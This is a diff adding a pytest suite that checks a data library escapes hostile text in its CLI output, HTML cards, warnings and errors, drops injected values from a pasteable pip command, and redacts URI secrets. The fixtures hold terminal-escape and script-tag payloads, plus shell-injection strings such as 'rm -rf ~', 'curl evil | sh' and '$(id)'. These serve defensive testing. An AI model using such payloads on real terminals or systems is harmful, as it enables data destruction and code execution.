@@ -1,0 +1,263 @@
+"""Text of strangers reaches no terminal, page or error unescaped: not from hostile events, nor from a lake that broke the rules."""
+
+import contextlib
+import json
+import re
+import unicodedata
+import warnings
+
+import polars as pl
+import pytest
+
+import eventlake as el
+from eventlake import visible
+from eventlake.cli import main
+from eventlake.core.card import Card
+from eventlake.core.page import Section, as_html, as_text
+from eventlake.datasets.reproduce import environment_command
+from eventlake.errors import EventlakeError, InvalidEventsError
+from eventlake.log import intake
+from eventlake.progress import shown_by, task
+
+EVIL = "x\x1b]0;pwned\x07\x1b[31m\u202egpj\u2066\x9b2J\u2028\u2029\u200b\x7f\x00\ufeff\U000e0041<script>alert(1)</script>"
+STEERING = {"Cc", "Cf", "Zl", "Zp"}
+"""Unicode categories of what moves, hides or reorders."""
+
+
+def raw(text):
+    """What of a text a terminal would obey, line breaks and tabs aside."""
+    return [f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in STEERING and c not in "\n\t"]
+
+
+SNEAKY = "x\u202egpj\u2066\u2028\u2029\u200b\ufeff\U000e0041<script>alert(1)</script>"
+"""What the event rules allow."""
+
+
+def strange_lake(folder, text):
+    lake = el.create(folder, "o")
+    lake.append([{"id": text, "source": text, "type": f"T{text}", "subject": f"/{text}", "data": {EVIL: EVIL}}])
+    lake.register("Rx", {"type": "object", "properties": {"f\u202e": {"type": "string"}}})
+    query = "SELECT subject, count(*) AS n FROM events GROUP BY subject"
+    lake.build(el.Projection.sql("a", query, key=["subject"]))
+    lake.build(el.Projection.sql("b", f"SELECT subject, count(*) AS n, 'a' AS \"{SNEAKY}\" FROM events GROUP BY subject", key=["subject"]))
+    return lake
+
+
+@pytest.fixture
+def strange(tmp_path):
+    """A lake of strange events, all of them allowed."""
+    return strange_lake(tmp_path / "lake", SNEAKY)
+
+
+@pytest.fixture
+def hostile(tmp_path, monkeypatch):
+    """The folder of a lake whose author switched the event rules off."""
+    root = tmp_path / "hostile"
+    lake = strange_lake(root, "x")
+    monkeypatch.setattr(intake, "rule_problems", lambda batch: [])
+    with contextlib.suppress(EventlakeError):
+        lake.append([{"id": EVIL, "source": EVIL, "type": f"T{EVIL}", "subject": f"/{EVIL}", "data": {EVIL: EVIL}}])
+    monkeypatch.undo()
+    return root
+
+
+COMMANDS = [
+    "show LAKE",
+    "show LAKE --events",
+    "show LAKE --events --json",
+    "show LAKE --json",
+    "log LAKE",
+    "log LAKE --json",
+    "verify LAKE --deep",
+    "verify LAKE --deep --json",
+    "schema list LAKE",
+    "schema list LAKE --json",
+    "schema show LAKE Rx",
+    "schema show LAKE Rx --json",
+    "schema show LAKE EVIL",
+    "schema infer LAKE TEVIL",
+    "schema infer LAKE TEVIL --json",
+    "datasets LAKE",
+    "datasets LAKE --json",
+    "diff LAKE A B",
+    "diff LAKE A B --json",
+    "explain LAKE A /EVIL",
+    "explain LAKE A /EVIL --json",
+    "explain LAKE A EVIL",
+    "explain LAKE A /EVIL --column EVIL",
+    "reproduce LAKE A",
+    "reproduce LAKE A --json",
+    "reproduce LAKE EVIL",
+    "reproduce LAKE EVIL --json",
+    "tag LAKE EVIL A",
+    "build EVIL --lake LAKE",
+    "show LAKE --at EVIL",
+    "import LAKE EVIL --map EVIL",
+    "append LAKE EVIL",
+    "gc LAKE",
+]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_no_command_prints_what_a_terminal_would_obey(strange, capsys, command):
+    said = run(strange.uri, [dataset.manifest_hash for dataset in strange.datasets()], SNEAKY, command, capsys)
+    assert raw(said) == []
+    assert said
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_no_command_prints_what_a_terminal_would_obey_of_a_lake_that_broke_the_rules(hostile, capsys, command):
+    hashes = sorted(json.loads(path.read_text())["manifest_hash"] for path in hostile.glob("builds/*/*/*/provenance.json"))
+    said = run(str(hostile), hashes, EVIL.replace("\x00", ""), command, capsys)
+    assert raw(said) == []
+    assert said
+
+
+def run(uri, hashes, text, command, capsys):
+    words = [word.replace("LAKE", uri).replace("EVIL", text) for word in command.split()]
+    words = [{"A": hashes[0], "B": hashes[1]}.get(word, word) for word in words]
+    with pytest.raises(SystemExit):
+        main(words)
+    said = capsys.readouterr()
+    return said.out + said.err
+
+
+def test_json_means_the_same_escaped(strange, capsys):
+    with pytest.raises(SystemExit):
+        main(["show", strange.uri, "--events"])
+    (event,) = map(json.loads, capsys.readouterr().out.splitlines())
+    assert (event["id"], event["data"]) == (SNEAKY, {EVIL: EVIL})
+
+
+def test_raw_events_are_byte_for_byte_what_was_given(tmp_path, capsys):
+    payload = '{"family":"\U0001f468\u200d\U0001f469", "to":"\u202e"}'
+    lake = el.create(tmp_path / "lake", "o")
+    lake.append([{"id": "1", "source": "s", "type": "t", "data": payload}])
+    with pytest.raises(SystemExit):
+        main(["show", lake.uri, "--events", "--raw"])
+    out = capsys.readouterr().out
+    assert out.endswith(f'"data":{payload}}}\n')
+    copy = el.create(tmp_path / "copy", "o")
+    copy.append(out.encode())
+    assert copy.checkpoint == lake.checkpoint
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b'{"id":"1","source":"s","type":"t","a\\u001b[31mb\\u0007":1}',
+        '{"id":"1","source":"s","type":"t","a\u202egpj":1}'.encode(),
+        b'{"id":"1","source":"s","type":"a\\u001b[31m"}',
+        b"\x1b[31mnot json",
+        b'{"id":"1","source":"s","type":"t","data":"\x1b[31m"}',
+    ],
+)
+def test_hostile_events_are_refused_in_words_that_steer_nothing(tmp_path, line):
+    lake = el.create(tmp_path / "lake", "o")
+    with pytest.raises(InvalidEventsError) as caught:
+        lake.append(line)
+    problems = " ".join(f"{problem} {problem!r}" for problem in caught.value.problems)
+    assert raw(f"{caught.value} {caught.value!r} {problems}") == []
+
+
+def test_cards_and_reprs_in_a_notebook_steer_nothing(strange):
+    first, second = strange.datasets()
+    things = [
+        strange,
+        strange.snapshot(),
+        first,
+        second,
+        strange.explain(first.manifest_hash, f"/{SNEAKY}"),
+        strange.diff(first.manifest_hash, second.manifest_hash),
+        strange.verify(deep=True),
+        strange.schema("Rx"),
+        strange.reproduce(first.manifest_hash),
+        strange.snapshot().sql("SELECT * FROM events"),
+    ]
+    for thing in things:
+        html = thing._repr_html_() if hasattr(thing, "_repr_html_") else ""
+        assert raw(repr(thing) + html) == []
+        assert "<script>" not in html
+    page = strange.diff(first.manifest_hash, second.manifest_hash).html()
+    assert raw(page) == []
+    assert "<script>" not in page
+
+
+def test_errors_cards_pages_and_progress_spell_every_steering_character():
+    everything = "".join(c for c in map(chr, range(0x110000)) if unicodedata.category(c) in STEERING and c not in "\n\t")
+    error = EventlakeError(everything, everything)
+    card = Card(everything, ((everything, everything),), (everything,), ((everything,),))
+    sections = [Section(everything, (everything,), (everything,), ((everything,),), everything)]
+    said = []
+
+    class Listens:
+        def task(self, what, total):
+            said.append(what)
+            return shown_by(self)
+
+    with shown_by(Listens()), task(everything, 1):
+        pass
+    shown = [str(error), repr(error), error.message, error.hint, card.title, *card.facts[0], *card.header, *card.rows[0], *said]
+    assert raw(" ".join([*shown, as_text(everything, sections), as_html(everything, sections)])) == []
+    assert "\\x1b" in error.message
+    assert "\\u202e" in card.title
+    assert json.loads(visible.json_text(json.dumps(everything, ensure_ascii=False))) == everything
+
+
+def test_warnings_steer_nothing(strange, tmp_path):
+    folder = next((tmp_path / "lake" / "builds" / "a").iterdir())
+    (folder / "manifest.json").write_text(json.dumps({EVIL: EVIL}, ensure_ascii=False))
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        strange.datasets()
+    assert caught
+    assert raw(" ".join(str(one.message) for one in caught)) == []
+
+
+@pytest.mark.parametrize(
+    ("python", "versions", "command"),
+    [
+        ("3.11.9", {"polars": "2.1.0", "duckdb": "2.0.1"}, "python3.11 -m venv then && then/bin/pip install duckdb==2.0.1 polars==2.1.0"),
+        ("3.11", {"polars": "2.1.0rc1+local.1"}, "python3.11 -m venv then && then/bin/pip install polars==2.1.0rc1+local.1"),
+        ("3.11", {"polars": "1!2.0"}, "python3.11 -m venv then && then/bin/pip install 'polars==1!2.0'"),
+        ("3; rm -rf ~", {"polars": "2.1.0; curl evil | sh #", "duckdb": "2.0"}, "python3 -m venv then && then/bin/pip install duckdb==2.0"),
+        ("3.11\x1b[31m", {"polars": "$(id)", "duckdb": "2.0\n"}, "python3.11 -m venv then"),
+        (None, {"evil-package": "1.0", "polars": "--index-url=http://evil"}, "python3 -m venv then"),
+    ],
+)
+def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, versions, command):
+    assert environment_command({"environment": {"python": python}, "versions": versions}) == command
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("s3://KEY:SECRET@bucket/lake", "s3://***@bucket/lake"),
+        ("s3://KEY:SEC/RET@bucket/lake", "s3://***@bucket/lake"),
+        ("s3://KEY:S@EC@bucket/lake", "s3://***@bucket/lake"),
+        ("s3:/KEY:SECRET@bucket/lake", "s3:/***@bucket/lake"),
+        ("S3://TOKEN@bucket", "S3://***@bucket"),
+        ("see https://user:pw@host/x?sig=SECRET, or not", "see https://***@host/x?sig=*** or not"),
+        ("file://user:pw@host/lake", "file://***@host/lake"),
+        ("gs://bucket/lake?token=SECRET#SECRET", "gs://bucket/lake?***"),
+        ("s3://bucket/lake#SECRET", "s3://bucket/lake#***"),
+        ("abfss://container@account.dfs.core.windows.net/lake", "abfss://container@account.dfs.core.windows.net/lake"),
+        ("abfss://container:SECRET@account.dfs.core.windows.net/lake", "abfss://***@account.dfs.core.windows.net/lake"),
+        ("s3://bucket/team@x/lake", "s3://bucket/team@x/lake"),
+        ("https://host:8080/users/me@x?page=2#top", "https://host:8080/users/me@x?page=2#top"),
+        ("https://b.s3.amazonaws.com/k?X-Amz-Signature=SECRET&n=1", "https://b.s3.amazonaws.com/k?X-Amz-Signature=***&n=1"),
+        ("/srv/a@b/lake", "/srv/a@b/lake"),
+        ("bank.example/loans 12@abcdef", "bank.example/loans 12@abcdef"),
+        ("file:///x#1", "file:///x#1"),
+    ],
+)
+def test_a_uri_is_shown_without_its_secrets(text, shown):
+    assert visible.redacted(text) == shown
+    error = EventlakeError(text, text, uri=text)
+    assert (error.message, error.hint, error.facts, error.args) == (shown, shown, {"uri": shown}, (shown, shown, {"uri": shown}))
+    assert not re.search("SECRET|KEY|TOKEN|pw", f"{error} {error!r} {Card(text, ((text, text),), (text,), ((text,),))}")
+
+
+def test_a_frame_in_an_error_is_not_touched():
+    frame = pl.DataFrame({"a": [1]})
+    assert EventlakeError("m", frame=frame).facts["frame"] is frame
